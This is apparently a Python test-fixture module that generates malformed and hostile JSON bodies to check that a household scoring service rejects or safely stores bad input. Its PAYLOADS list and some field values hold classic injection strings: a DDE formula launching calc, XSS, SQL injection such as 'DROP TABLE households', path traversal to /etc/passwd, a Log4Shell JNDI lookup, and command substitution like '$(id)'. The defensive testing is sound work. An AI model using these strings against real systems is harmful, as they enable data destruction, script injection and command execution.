"""Bodies with one household that must neither be scored nor come back: broken JSON, wrong facts, wrong names.

`bodies` are refused by every route that takes a household; `payloads` are texts that may be scored (an id is any text)
but must never be more than text.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

CANARY = "370828196501011234"
NAME = "王小明"
LARGE = 1_000_000

NO_JSON = ["", " ", "{", "[", "]", "{{}}", "{]", "\x00", "\u2028", "{'a': 1}"]
NO_JSON += ['{"a": 01}', '{"a": +1}', '{"a": .5}', '{"a": 1.}', '{"a": 0x10}', '{"a": 1_000}']
NO_JSON += ['{"a": "\x01"}', '{"a": "\x00"}', '"' + '\\"' * 100_000]
NO_OBJECT = ["null", "true", "0", '""', f'"{CANARY}"', "[]", "{}", "[{}]", "[" + "1," * 100_000 + "1]"]
NO_NUMBER = ["NaN", "Infinity", "-Infinity", '{"a": NaN}', '{"a": [Infinity]}', '{"a": {"b": -Infinity}}']
NO_NUMBER += ["1e400", '{"a": 1e400}', '{"a": -1e400}', '{"a": 1e5}', '{"a": 1E-400}']
NO_NUMBER += ['{"a": ' + "9" * 19 + "}", '{"a": ' + "9" * 5000 + "}", '{"a": 0.' + "1" * 400 + "}"]
TWICE = ['{"a": 1, "a": 2}', '{"a": {"b": 1, "b": 2}}', '{"a": [{"b": 1, "\\u0062": 2}]}']
NO_TEXT = ['{"a": "\\ud800"}', '{"\\udfff": 1}', '{"a": ["\\ud83d"]}', '{"a": "' + "x" * 2000 + '"}']
TOO_DEEP = ["[" * 11 + "]" * 11, "[" * 100_000, '{"a":' * 11 + "1" + "}" * 11, '{"a":' * 50_000]

NO_JSON += [
    '{"a": 1,}',
    "[1,]",
    '{"a" 1}',
    '{"a": 1 "b": 2}',
    '{,"a": 1}',
    '{"a": tru}',
    '{"a": nul}',
    '{"a": -}',
    '{"a": 1e}',
]
NO_JSON += [
    '{"a": "\\x41"}',
    '{"a": "\\u12"}',
    '{"a": "\t"}',
    '{"a": 1}{"b": 2}',
    '// c\n{"a": 1}',
    '{"a": 1} // c',
    "\x0c{}",
    "\ufeff",
]
NO_JSON += [
    '{"a": ١}',
    '{"a": 1٫5}',
    '{"a": ∞}',
    '{"a": undefined}',
    '{"a": b"x"}',
    "{a: 1}",
    '{"a": 0b1}',
    '{"a": 1n}',
    '{"a": 1..2}',
]
NO_NUMBER += [
    '{"a": ' + sign + "1" + tail + "}"
    for sign in ("", "-")
    for tail in ("e9", "E+99999", "e1000000000", "." + "0" * 99)
]
NO_NUMBER += [
    "-" + "9" * 400,
    '{"a": [[1e999]]}',
    '{"a": 123456789012345678901234567890.5}',
    '{"a": -0e0}',
    "9" * 900_000,
]
TWICE += [
    '{"household": {}, "household": {}}',
    '{"a": [[[{"b": {"c": 1, "c": 1}}]]]}',
    '{"": 1, "": 2}',
    '{"a": 1, "\\u0061": 1}',
]
NO_TEXT += [
    '{"a": "\\u0000"}',
    '{"a": "\\u001b[2J"}',
    '{"a": "\\u202e"}',
    '{"a": "\\ufeff"}',
    '{"a": "\\ud800\\ud800"}',
    '{"a": "\\udc00\\ud800"}',
]
NO_TEXT += ['{"\\u0000": 1}', '{"a": "\\uffff"}', '{"a": "\\u2028"}', '{"' + "k" * 2000 + '": 1}', '{"a": "\\u0085"}']
TOO_DEEP += ['{"a":[' * 6 + "1" + "]}" * 6, "[{" * 40_000, '[{"a":' * 30_000, "[" * 499_999 + "]" * 499_999]
WIDE = [
    "{" + ",".join(f'"k{number}": 1' for number in range(20_000)) + "}",
    "[" + "{}," * 50_000 + "{}]",
    '{"members": [' + "[]," * 100_000 + "[]]}",
]

WRONG_TYPES: list[Any] = [{}, {"a": CANARY}, [CANARY, 1], [[]], "y" * 1001]
"""No fact, id or date is any of these."""
PAYLOADS = [
    *(
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1",
        "-1+1",
        "@SUM(1)",
        "＝1+1",
        '=HYPERLINK("http://x.invalid","a")',
        "%s%s%n",
        "{0}",
        "${7*7}",
    ),
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=1>',
        "javascript:alert(1)",
        "&lt;b&gt;",
        "]]>",
        "<!--",
    ),
    *("'; DROP TABLE households; --", "' OR '1'='1", "1; SELECT pg_sleep(9)", "\\'; --", "admin'--", "UNION SELECT 1"),
    *(
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/hostname",
        "file:///etc/hostname",
        "C:\\con",
        "%2e%2e%2f",
        "~root",
    ),
    *(
        "http://127.0.0.1:1/",
        "//x.invalid/x",
        "\\\\x.invalid\\c$",
        "${jndi:ldap://x.invalid/a}",
        "{{7*7}}",
        "#{7*7}",
        "$(id)",
        "`id`",
        "| id",
    ),
    *(
        "__class__",
        "__proto__",
        "constructor",
        "None",
        "null",
        "nan",
        "NA",
        "true",
        "-0",
        "1e400",
        "\\u0000",
        "٣",
        "１２",
        "ﬁ",
        "𠮷",
        "é",
    ),
]

FACTS: dict[str, list[Any]] = {
    "household.household_id": ["", 12345, ["H1"], [], "x" * 900, f"{CANARY}\u202e\u202e{NAME} ", {"$ne": CANARY}],
    "household.area_code": ["北京", "../../x"],
    "household.residence_type": [CANARY, 1, ["rural", "urban"]],
    "household.motor_vehicles": [-1, 1.5, "一", 10**17],
    "household.financial_assets": [
        *(CANARY, "1e3", "NaN", "0x10", 0.001, "1,000", True, -0.01, [400], {}),
        "'; DROP TABLE h; --",
    ],
    "household.non_residential_property": [CANARY, "<script>"],
    "household.dwelling_safety_grade": ["Z"],
    f"household.{NAME}": [CANARY],
    f"household.{CANARY}": [1],
    "household.__class__": ["x"],
    "household.$ref": ["file:///etc/hostname"],
    "members.0.member_id": [7, None, ["1"]],
    "members.0.birth_date": ["1947-02-30", CANARY, 194701, "1800-01-01", "2018-07-02", "١٩٤٧-01-01"],
    "members.0.sex": [NAME],
    "members.0.disability_grade": [5, 1e300],
    "members.0.wage_month": ["1２.5.0", "=1+1", 1e-7],
    f"members.0.{NAME}": [1],
    "supporters": [{}, [{"member_id": CANARY}], [{}]],
    "transfers": [CANARY, [{"member_id": "1", "kind": CANARY, "amount": 1, "period": "year"}]],
    "household": [[], CANARY, None],
    NAME: [CANARY],
    "tables": [{}],
    "explain": [CANARY, 1],
    "table": [
        *(None, 1, "", CANARY, ["jinxiang"], "../../../etc/passwd", "/etc/passwd", "jinxiang/../jinxiang"),
        *("jinxiang.toml", "scoring_tables/jinxiang/2018-03-24.toml", "jinxiang@2018-03-25", "jinxiang@"),
        *("jinxiang\x00", "JINXIANG", "con", "file:///etc/hostname", "https://x.invalid/t.toml", "j" * 5000),
    ],
    "on": [
        *(None, "", CANARY, "2018-02-30", "2018-7-1", 20180701, "0001-01-01", "9999-12-31", {}),
        *("２０１８-07-01", "2018-07-01T00:00:00", "1990-01-01"),
    ],
}


def with_value(document: Any, path: str, value: Any) -> Any:
    """A copy with one value replaced or added (`household.motor_vehicles`, `members.0.sex`)."""
    found = copy.deepcopy(document)
    *above, last = path.split(".")
    place = found
    for key in above:
        place = place[int(key)] if key.isdigit() and isinstance(place, list) else place[key]
    place[int(last) if isinstance(place, list) else last] = value
    return found


def bodies(good: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    """Name and bytes of every hostile body, made from one good household."""
    text = json.dumps(good, ensure_ascii=False)
    broken = [text[:-1], text + text, text + "x", text.replace(":", "", 1)]
    for kind in (NO_JSON, NO_OBJECT, NO_NUMBER, TWICE, NO_TEXT, TOO_DEEP, WIDE, broken):
        for one in kind:
            yield f"{one[:24]!r} {len(one)}", one.encode("utf-8", "surrogatepass")
    for data in (b"\xff\xfe", b"\x80", text.encode("utf-16"), b"\xef\xbb\xbf" + text.encode(), b'"\xed\xa0\x80"'):
        yield f"bytes {data[:3].hex()}", data
    for cut in range(1, 12):  # a text that ends in the middle of anything, a character among it
        yield f"cut at {cut}/12", text.encode()[: len(text.encode()) * cut // 12]
    yield "cut character", text.replace("JX-01", "济").encode()[: text.index("JX-01") + 2]
    assets = '"financial_assets": 400'
    yield "assets twice", text.replace(assets, f'"financial_assets": 9999, {assets}').encode()
    yield "too large", text[:-1].encode() + b" " * LARGE + b"}"
    members = good["members"]
    facts = FACTS | {"members": [None, [], {}, CANARY, [CANARY], [[]], [None]]}
    facts["members"] += [members * 101, [{}] * 201, members[:1] * 2]
    for path, values in facts.items():
        for value in values:
            yield f"{path} {str(value)[:20]!r}", json.dumps(with_value(good, path, value)).encode()
    for path in leaves(good):
        for value in WRONG_TYPES:
            yield f"{path} {str(value)[:20]!r}", json.dumps(with_value(good, path, value)).encode()
        name = path.rpartition(".")[2]
        for number in ("NaN", "-Infinity", "1e400", "1" * 19):
            marked = json.dumps(with_value(good, path, "here it stands"))
            yield f"{path} {number}", marked.replace('"here it stands"', number).encode()
        marked = json.dumps(with_value(good, path, "here it stands"))
        yield f"{path} twice", marked.replace(f'"{name}": "here it stands"', f'"{name}": 1, "{name}": 2').encode()


def leaves(document: Any, above: str = "") -> Iterator[str]:
    """The path of every plain value."""
    pairs = document.items() if isinstance(document, dict) else enumerate(document)
    for key, value in pairs:
        path = f"{above}.{key}".lstrip(".")
        if isinstance(value, dict | list):
            yield from leaves(value, path)
        else:
            yield path


def payloads(good: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    """Name and bytes of bodies with a payload in a text: as an id, as a fact, as a name, as the table and the date."""
    paths = ["household.household_id", "household.area_code", "household.residence_type", "members.0.member_id"]
    paths += ["members.0.severe_illness_code", "members.0.wage_month", "table", "on", "household.", ""]
    for payload in PAYLOADS:
        for path in paths:
            spot = path + payload.replace(".", "_") if path in ("", "household.") else path
            if path in ("table", "on") and path not in good:
                continue
            yield f"{spot} {payload[:20]!r}", json.dumps(with_value(good, spot, payload), ensure_ascii=False).encode()
